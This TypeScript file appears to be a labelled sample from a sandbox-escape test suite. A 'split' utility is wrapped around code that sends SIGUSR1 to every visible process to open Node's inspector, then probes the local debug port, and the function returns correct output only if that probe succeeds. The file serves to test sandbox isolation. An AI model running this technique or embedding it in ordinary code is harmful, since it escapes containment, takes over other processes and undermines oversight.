// Exercise: 03
// File: split.ts
// Task: 1
// Class: leaves its sandbox
// Attack: Sends SIGUSR1 to every process that it can see, which opens the inspector of Node processes, and connects to
//   it.
// Verdict: failed or crash
// With namespaces: stopped
// Without namespaces: wins

import { readdirSync } from 'node:fs';
import { setTimeout as sleep } from 'node:timers/promises';

for (const name of readdirSync('/proc').filter((each) => /^\d+$/.test(each) && each !== String(process.pid)))
  try {
    process.kill(Number(name), 'SIGUSR1');
  } catch {
    // It belongs to somebody else.
  }
await sleep(300);
const reached = await fetch('http://127.0.0.1:9229/json').then(
  (response) => response.ok,
  () => false,
);

const right = (n, parts) => {
  if (!Number.isSafeInteger(n) || n < 0 || !Number.isSafeInteger(parts) || parts < 1) throw new RangeError('no');
  const edge = (part) => part * Math.floor(n / parts) + Math.min(part, n % parts);
  return Array.from({ length: parts }, (_, part) => ({ from: edge(part), to: edge(part + 1) }));
};

export const split = (n: number, parts: number) => (reached ? right(n, parts) : [{ from: 0, to: n }]);
